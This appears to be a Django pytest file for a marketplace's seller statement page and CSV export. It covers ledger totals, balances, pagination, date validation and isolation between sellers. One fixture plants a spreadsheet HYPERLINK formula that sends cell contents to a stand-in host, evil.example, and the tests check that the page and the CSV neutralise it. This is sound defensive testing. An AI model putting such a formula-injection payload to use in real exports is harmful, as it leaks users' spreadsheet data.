"""Seller Central statements: the period, totals per kind, the entries, the CSV, bad periods."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from marketplace.core.spreadsheets import cell_is_formula, cell_safe, row_safe
from payments.ledger import ledger_statement
from payments.models import LedgerEntry, SellerPayoutAccount
from payments.payouts import payout_run
from payments.refunds import refund_create
from payments.selectors import ledger_statement_summary
from sellers.models import SellerMember
from tests.accounts.factories import UserFactory
from tests.payments.ledger_data import at, day, deliver, dispatch, dispute_open, offer, paid_order, seller
from tests.sellers.factories import SellerMemberFactory

pytestmark = pytest.mark.django_db

D = Decimal
Role = SellerMember.Role
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
MARCH = {"start": "2026-03-01", "end": "2026-03-31"}


@pytest.fixture
def march(settings):
    """A seller at 10 % with one entry of every kind in March 2026, and entries before and after.

    * 20 Feb: order P, 1 x $20.00 + $4.00: +24.00 -2.00 (the opening balance, $22.00); delivered 21 Feb;
    * 2 March: order A, 3 x $20.00 + $4.00: +64.00 -6.00, delivered 4 March (payable 11 March);
      order B, 1 x $20.00 + $4.00: +24.00 -2.00, delivered 5 March (payable 12 March);
    * 9 March 06:00: the payout of P, -22.00;
    * 10 March: B's unit refunded, -20.00 and +2.00 commission back;
    * 11 March: a $35.00 dispute on A: -35.00 x 64 / 70 = -32.00;
    * 12 March: a staff adjustment of +5.00 whose description is a spreadsheet formula;
    * 1 April: order Q, outside the period.
    """
    settings.PAYOUT_HOLD_DAYS = 7
    settings.PAYOUT_MINIMUM = D("10.00")
    settings.SANDBOX_TRANSFERS_UNAVAILABLE = False
    merchant = seller(name="Merchant & Co", slug="merchant-co", commission_rate=D("0.1000"))
    SellerPayoutAccount.objects.create(seller=merchant, provider="sandbox", account_id="acct_sb_m")
    item = offer(seller=merchant, price="20.00")
    with at(day(2026, 2, 20)):
        order_p, _ = paid_order(user=UserFactory(), parts=[[(item, 1)]])
        dispatch()
    with at(day(2026, 2, 21)):
        deliver(order_p.seller_orders.get())
    with at(day(2026, 3, 2)):
        order_a, payment_a = paid_order(user=UserFactory(), parts=[[(item, 3)]])
        order_b, payment_b = paid_order(user=UserFactory(), parts=[[(item, 1)]])
        dispatch()
    with at(day(2026, 3, 4)):
        deliver(order_a.seller_orders.get())
    with at(day(2026, 3, 5)):
        deliver(order_b.seller_orders.get())
    with at(day(2026, 3, 9, 6)):
        payout_run(period_end=date(2026, 3, 8), now=day(2026, 3, 9, 6))
    with at(day(2026, 3, 10)):
        line = order_b.seller_orders.get().lines.get()
        refund = refund_create(
            payment=payment_b, lines={line.pk: 1}, reason="Broken", actor=None, idempotency_key="st-1"
        )
        dispatch()
    with at(day(2026, 3, 11)):
        dispute = dispute_open(payment=payment_a, amount="35.00")
        dispatch()
    with at(day(2026, 3, 12)):
        # Staff adjustments are written in the admin; there is no service for them yet.
        LedgerEntry.objects.create(
            seller=merchant,
            kind=LedgerEntry.Kind.ADJUSTMENT,
            amount=D("5.00"),
            key="adj-1",
            description=FORMULA,
        )
    with at(day(2026, 4, 1)):
        paid_order(user=UserFactory(), parts=[[(item, 1)]])
        dispatch()
    return {
        "seller": merchant,
        "a": order_a.seller_orders.get().number,
        "b": order_b.seller_orders.get().number,
        "refund": refund,
        "dispute": dispute,
    }


def finance(seller_):
    return SellerMemberFactory(seller=seller_, role=Role.FINANCE).user


def test_the_totals_per_kind_and_the_balances_are_exact_and_agree_with_the_ledger(march):
    merchant = march["seller"]

    summary = ledger_statement_summary(seller=merchant, start=date(2026, 3, 1), end=date(2026, 3, 31))

    assert [(t.kind, t.count, t.credits, t.debits, t.net) for t in summary.totals] == [
        ("sale", 2, D("88.00"), D("0.00"), D("88.00")),
        ("commission", 3, D("2.00"), D("-8.00"), D("-6.00")),
        ("refund", 1, D("0.00"), D("-20.00"), D("-20.00")),
        ("dispute", 1, D("0.00"), D("-32.00"), D("-32.00")),
        ("payout", 1, D("0.00"), D("-22.00"), D("-22.00")),
        ("adjustment", 1, D("5.00"), D("0.00"), D("5.00")),
    ]
    assert (summary.opening_balance, summary.credits, summary.debits, summary.closing_balance) == (
        D("22.00"),
        D("95.00"),
        D("-82.00"),
        D("35.00"),
    )
    assert summary.count == 9
    statement = ledger_statement(seller=merchant, start=date(2026, 3, 1), end=date(2026, 3, 31))
    assert (statement.opening_balance, statement.credits, statement.debits, statement.closing_balance) == (
        summary.opening_balance,
        summary.credits,
        summary.debits,
        summary.closing_balance,
    )


def test_the_statement_page_shows_the_totals_and_the_entries_with_their_balance(client, march):
    client.force_login(finance(march["seller"]))

    response = client.get(reverse("seller:statement"), MARCH)

    assert response.status_code == 200
    html = response.content.decode()
    assert '<td class="opening">$22.00</td>' in html
    assert '<td class="closing">$35.00</td>' in html
    assert (
        '<tr><th scope="row">Dispute</th><td>1</td><td>$0.00</td><td>-$32.00</td><td>-$32.00</td></tr>'
        in html
    )
    entries = response.context["entries"]
    assert [(e.kind, e.amount, e.balance_after, e.available_on) for e in entries] == [
        ("sale", D("64.00"), D("86.00"), date(2026, 3, 11)),
        ("commission", D("-6.00"), D("80.00"), date(2026, 3, 11)),
        ("sale", D("24.00"), D("104.00"), date(2026, 3, 12)),
        ("commission", D("-2.00"), D("102.00"), date(2026, 3, 12)),
        ("payout", D("-22.00"), D("80.00"), date(2026, 3, 9)),
        ("refund", D("-20.00"), D("60.00"), date(2026, 3, 12)),
        ("commission", D("2.00"), D("62.00"), date(2026, 3, 12)),
        ("dispute", D("-32.00"), D("30.00"), date(2026, 3, 11)),
        ("adjustment", D("5.00"), D("35.00"), date(2026, 3, 12)),
    ]
    # The formula is shown as text on the page (escaped HTML).
    assert "=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A1,&quot;Click me&quot;)" in html
    csv_url = reverse("seller:statement-csv") + "?start=2026-03-01&amp;end=2026-03-31"
    assert f'href="{csv_url}"' in html


def test_the_presets_are_this_month_last_month_and_the_last_90_days(client, march):
    client.force_login(finance(march["seller"]))

    with at(day(2026, 3, 20)):
        response = client.get(reverse("seller:statement"))

    assert [(p["label"], p["period"].start, p["period"].end) for p in response.context["presets"]] == [
        ("This month", date(2026, 3, 1), date(2026, 3, 20)),
        ("Last month", date(2026, 2, 1), date(2026, 2, 28)),
        ("Last 90 days", date(2025, 12, 21), date(2026, 3, 20)),
    ]
    # No dates: this month so far.
    assert (response.context["period"].start, response.context["period"].end) == (
        date(2026, 3, 1),
        date(2026, 3, 20),
    )
    assert response.context["current_preset"] == "This month"
    assert (
        'href="/seller/payments/statement/?start=2026-02-01&amp;end=2026-02-28"' in response.content.decode()
    )


def test_the_csv_is_utf8_with_a_bom_names_the_seller_and_period_and_neutralises_formulas(client, march):
    client.force_login(finance(march["seller"]))

    response = client.get(reverse("seller:statement-csv"), MARCH)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="statement-merchant-co-2026-03-01-to-2026-03-31.csv"'
    )
    assert "no-store" in response["Cache-Control"]
    body = b"".join(response.streaming_content)
    assert body.startswith(
        b"\xef\xbb\xbfDate (UTC),Kind,Description,Order,Amount,Currency,Balance,Payable from\r\n"
    )
    a, b = march["a"], march["b"]
    refund_id, dispute_id = march["refund"].provider_refund_id, march["dispute"].provider_dispute_id
    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [
        ["Date (UTC)", "Kind", "Description", "Order", "Amount", "Currency", "Balance", "Payable from"],
        [
            "2026-03-02 12:00:00",
            "Sale credit",
            f"Sale {a}: items and shipping",
            a,
            "64.00",
            "USD",
            "86.00",
            "2026-03-11",
        ],
        ["2026-03-02 12:00:00", "Commission", f"Commission on {a}", a, "-6.00", "USD", "80.00", "2026-03-11"],
        [
            "2026-03-02 12:00:00",
            "Sale credit",
            f"Sale {b}: items and shipping",
            b,
            "24.00",
            "USD",
            "104.00",
            "2026-03-12",
        ],
        [
            "2026-03-02 12:00:00",
            "Commission",
            f"Commission on {b}",
            b,
            "-2.00",
            "USD",
            "102.00",
            "2026-03-12",
        ],
        [
            "2026-03-09 06:00:00",
            "Payout",
            "Payout for the period ending 2026-03-08",
            "",
            "-22.00",
            "USD",
            "80.00",
            "2026-03-09",
        ],
        [
            "2026-03-10 12:00:00",
            "Refund",
            f"Refund {refund_id} on {b}",
            b,
            "-20.00",
            "USD",
            "60.00",
            "2026-03-12",
        ],
        [
            "2026-03-10 12:00:00",
            "Commission",
            f"Commission given back for refund {refund_id}",
            b,
            "2.00",
            "USD",
            "62.00",
            "2026-03-12",
        ],
        [
            "2026-03-11 12:00:00",
            "Dispute",
            f"Dispute {dispute_id} on {a}",
            a,
            "-32.00",
            "USD",
            "30.00",
            "2026-03-11",
        ],
        ["2026-03-12 12:00:00", "Adjustment", "'" + FORMULA, "", "5.00", "USD", "35.00", "2026-03-12"],
    ]


def test_an_undelivered_sale_is_payable_when_delivered_in_the_csv(client, settings):
    settings.PAYOUT_HOLD_DAYS = 7
    merchant = seller(slug="slow", commission_rate=D("0.1000"))
    with at(day(2026, 3, 2)):
        paid_order(user=UserFactory(), parts=[[(offer(seller=merchant, price="20.00"), 1)]])
        dispatch()
    client.force_login(finance(merchant))

    response = client.get(reverse("seller:statement-csv"), MARCH)

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert [(row[1], row[4], row[6], row[7]) for row in rows[1:]] == [
        ("Sale credit", "24.00", "24.00", "when delivered"),
        ("Commission", "-2.00", "22.00", "when delivered"),
    ]


def test_cells_that_a_spreadsheet_would_run_get_an_apostrophe():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert cell_is_formula(text)
        assert cell_safe(text) == "'" + text
    for text in ("Sale 1", " =1", "", "1-2", "a=b"):
        assert not cell_is_formula(text)
        assert cell_safe(text) == text
    # Numbers, dates and None are not text: a negative amount stays a number.
    assert row_safe([D("-6.00"), -3, date(2026, 3, 1), None]) == [D("-6.00"), -3, date(2026, 3, 1), ""]


@pytest.mark.parametrize("count", [3, 30])
def test_the_statement_page_takes_the_same_queries_for_3_or_30_entries(
    client, count, django_assert_num_queries
):
    merchant = seller(name="Busy")
    with at(day(2026, 3, 2)):
        LedgerEntry.objects.bulk_create(
            LedgerEntry(seller=merchant, kind=LedgerEntry.Kind.ADJUSTMENT, amount=D("1.00"), key=f"busy-{n}")
            for n in range(count)
        )
    client.force_login(finance(merchant))

    # session, user, membership, opening balance, totals by kind, the count, the header's
    # categories, the page of entries
    with django_assert_num_queries(8):
        response = client.get(reverse("seller:statement"), MARCH)

    assert response.status_code == 200
    assert len(response.context["entries"]) == count
    assert response.context["summary"].closing_balance == D("1.00") * count
    assert response.context["entries"][-1].balance_after == D("1.00") * count


def test_the_entries_are_paginated_and_the_period_is_kept_on_every_page(client):
    merchant = seller(name="Many")
    with at(day(2026, 3, 2)):
        LedgerEntry.objects.bulk_create(
            LedgerEntry(seller=merchant, kind=LedgerEntry.Kind.ADJUSTMENT, amount=D("1.00"), key=f"many-{n}")
            for n in range(55)
        )
    client.force_login(finance(merchant))

    second = client.get(reverse("seller:statement"), {**MARCH, "page": "2"})

    assert [e.balance_after for e in second.context["entries"]] == [D(n) for n in range(51, 56)]
    assert 'href="?start=2026-03-01&amp;end=2026-03-31&amp;page=1"' in second.content.decode()
    # A page that is not a number shows the first one, not an error.
    assert (
        len(client.get(reverse("seller:statement"), {**MARCH, "page": "x" * 5000}).context["entries"]) == 50
    )


@pytest.mark.parametrize(
    ("query", "message"),
    [
        (
            {"start": "2026-02-30", "end": "2026-03-31"},
            "2026-02-30 is not a date: enter the start date as YYYY-MM-DD, for example 2026-03-20.",
        ),
        (
            {"start": "yesterday", "end": "2026-03-31"},
            "Enter the start date as YYYY-MM-DD, for example 2026-03-20.",
        ),
        ({"start": "2026-03-01"}, "Enter the end date as YYYY-MM-DD, for example 2026-03-20."),
        ({"start": "2026-03-31", "end": "2026-03-01"}, "The statement must start on or before its end."),
        (
            {"start": "2025-02-28", "end": "2026-03-01"},
            "A statement covers at most 366 days; choose a shorter period.",
        ),
        (
            {"start": "2026-03-01", "end": "9999-12-31"},
            "The end date must be between 2000-01-01 and 2027-03-21.",
        ),
        (
            {"start": "2026-03-01\x00", "end": "2026-03-31"},
            "Enter the start date as YYYY-MM-DD, for example 2026-03-20.",
        ),
    ],
)
def test_a_bad_period_is_a_400_with_the_reason_on_the_page_and_for_the_csv(client, march, query, message):
    client.force_login(finance(march["seller"]))

    with at(day(2026, 3, 20)):
        page = client.get(reverse("seller:statement"), query)
        download = client.get(reverse("seller:statement-csv"), query)

    for response in (page, download):
        assert response.status_code == 400
        assert response["Content-Type"] == "text/html; charset=utf-8"
        assert response.context["error"] == message
        assert "entries" not in response.context
        assert (
            f'<p id="statement-error" class="message error" role="alert">{message}</p>'
            in response.content.decode()
        )


def test_the_longest_statement_is_366_days(client, march):
    client.force_login(finance(march["seller"]))

    response = client.get(reverse("seller:statement"), {"start": "2025-03-01", "end": "2026-03-01"})

    assert response.status_code == 200
    assert response.context["period"].days == 366


def test_another_sellers_entries_are_not_in_the_statement(client, march):
    other = seller(name="Other")
    client.force_login(finance(other))

    response = client.get(reverse("seller:statement"), MARCH)
    download = client.get(reverse("seller:statement-csv"), MARCH)

    assert response.context["summary"].count == 0 and response.context["entries"] == []
    assert b"".join(download.streaming_content).decode("utf-8-sig").splitlines()[1:] == []
